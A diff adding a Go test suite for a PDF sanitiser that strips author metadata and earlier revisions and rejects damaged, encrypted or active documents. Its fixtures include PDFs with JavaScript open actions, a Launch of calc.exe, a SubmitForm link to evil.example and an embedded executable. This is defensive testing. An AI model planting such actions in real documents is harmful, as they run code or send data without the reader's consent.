@@ -1,0 +1,110 @@
+package media_test
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+
+	"kinward/hooks/media"
+)
+
+// pdf writes a document from its objects, the first of which is its catalog.
+func pdf(trailer string, objects ...string) []byte {
+	var out bytes.Buffer
+	out.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+	places := make([]int, len(objects))
+	for i, object := range objects {
+		places[i] = out.Len()
+		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, object)
+	}
+	start := out.Len()
+	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
+	for _, at := range places {
+		fmt.Fprintf(&out, "%010d 00000 n \n", at)
+	}
+	fmt.Fprintf(&out, "trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
+	return out.Bytes()
+}
+
+func stream(dict, content string) string {
+	return fmt.Sprintf("<< %s /Length %d >>\nstream\n%s\nendstream", dict, len(content), content)
+}
+
+// leaflet is a document of one page, with more in its catalog and on its page.
+func leaflet(catalog, page string, more ...string) []byte {
+	objects := []string{
+		"<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R " + catalog + " >>",
+		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> /LastModified (D:20240101000000Z) " + page + " >>",
+		stream("", "0 0 100 100 re f % drawn"),
+		stream("/Type /Metadata /Subtype /XML", "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">secret author</x:xmpmeta>"),
+		"<< /Author (secret author) /Title (secret title) /Producer (secret program) /CreationDate (D:20240101000000Z) >>",
+	}
+	return pdf("/Info 6 0 R", append(objects, more...)...)
+}
+
+func TestDocumentsLoseTheirAuthor(t *testing.T) {
+	c := mustClean(t, leaflet("", ""))
+	tellsNothing(t, "the document", c.out)
+	for _, said := range []string{"2024", "LastModified", "xmpmeta"} {
+		if bytes.Contains(c.out, []byte(said)) {
+			t.Errorf("the document still says %q", said)
+		}
+	}
+	if c.Kind != media.Document || c.Type != "application/pdf" || !bytes.HasPrefix(c.out, []byte("%PDF-")) {
+		t.Errorf("it is %+v", c.Cleaned)
+	}
+	if again := mustClean(t, c.out); !bytes.HasPrefix(again.out, []byte("%PDF-")) {
+		t.Error("what came out is no document")
+	}
+	// An earlier version stays in a file that was changed: here the page was drawn otherwise before.
+	first := leaflet("", "")
+	changed := append(first, strings.Replace(string(leaflet("", "")), "% drawn", "% again", 1)[9:]...)
+	if c, err := clean(changed); err == nil && bytes.Contains(c.out, []byte("secret")) {
+		t.Error("the earlier version tells")
+	}
+}
+
+func TestDocumentsThatActAreRefused(t *testing.T) {
+	for name, content := range map[string][]byte{
+		"a program at the start": leaflet("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", ""),
+		"a program by its name":  leaflet("/Names << /JavaScript << /Names [(x) 7 0 R] >> >>", "", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+		"one that starts others": leaflet("/OpenAction << /S /Launch /F (calc.exe) >>", ""),
+		"one that sends":         leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://evil.example) >> >>"),
+		"another file":           leaflet("/Names << /EmbeddedFiles << /Names [(x) 7 0 R] >> >>", "", "<< /Type /Filespec /F (x.exe) /EF << /F 8 0 R >> >>", stream("/Type /EmbeddedFile", "MZ")),
+		"what the page does":     leaflet("", "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
+	} {
+		if _, err := clean(content); !errors.Is(err, media.Acting) {
+			t.Errorf("%s: %v", name, err)
+		}
+	}
+	if c := mustClean(t, leaflet("", "/Annots [7 0 R]", "<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>")); !bytes.Contains(c.out, []byte("%PDF")) {
+		t.Error("a link is no action")
+	}
+}
+
+func TestDocumentsThatCannotBeRead(t *testing.T) {
+	whole := leaflet("", "")
+	for name, c := range map[string]struct {
+		content []byte
+		want    error
+	}{
+		"only a head": {whole[:9], media.Damaged},
+		"no page":     {pdf("", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"), nil},
+		"a password": {pdf("/Encrypt 3 0 R /ID [<00> <00>]", "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>",
+			"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <"+strings.Repeat("ab", 32)+"> /U <"+strings.Repeat("cd", 32)+"> >>"), media.Locked},
+		"words": {[]byte("%PDF-1.7 this is a letter, not a document"), media.Damaged},
+	} {
+		_, err := clean(c.content)
+		if err == nil || c.want != nil && !errors.Is(err, c.want) {
+			t.Errorf("%s: %v, want %v", name, err, c.want)
+		}
+	}
+	for at := 20; at < len(whole)-30; at += 61 {
+		if c, err := clean(whole[:at]); err == nil && bytes.Contains(c.out, []byte("secret")) {
+			t.Errorf("cut after %d bytes it still tells", at)
+		}
+	}
+}
